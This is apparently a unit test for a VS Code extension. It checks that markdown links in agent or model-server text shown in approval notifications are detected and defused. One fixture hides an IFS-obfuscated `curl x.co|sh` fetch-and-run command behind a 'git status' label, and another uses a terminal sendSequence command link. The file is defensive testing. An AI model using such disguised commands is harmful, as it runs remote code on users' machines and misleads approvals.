// Text from agents and model servers shown in notifications: VS Code would make `[label](target)` a link
// (and run a `command:` target when clicked), which could hide what an approval is for.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { hasLink, plainText } from '../../src/extension/plainText';

test('link syntax is found, and broken without changing what shows', () => {
  const hidden = 'echo "[git status](https://x.co/`curl${IFS}x.co|sh`)"';
  assert.equal(hasLink(hidden), true);
  assert.equal(hasLink('[see diff] (command:workbench.action.terminal.sendSequence)'), true);
  assert.equal(hasLink('npm test -- --grep "a (b)" && ls [abc]'), false);
  const shown = plainText(hidden);
  assert.equal(hasLink(shown.replace(/\u200b/g, '')), true, 'only a zero-width space is added');
  assert.doesNotMatch(shown, /\]\(/);
  assert.equal(plainText('no links (here)'), 'no links (here)');
});
